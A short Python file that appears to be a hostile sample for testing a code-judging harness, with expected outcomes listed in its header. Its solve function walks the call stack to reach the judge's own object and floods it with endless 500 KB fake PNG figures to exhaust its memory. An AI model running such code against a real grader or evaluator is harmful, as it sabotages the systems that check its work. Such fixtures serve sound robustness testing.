# class: exhaust
# success: figures without end fill the judge's memory
# ends: time_limit output_limit forbidden
import sys

def solve(x):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_send_figure"):
        frame = frame.f_back
    while True:
        frame.f_locals["self"]._send_figure("t", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01" + bytes(500_000))
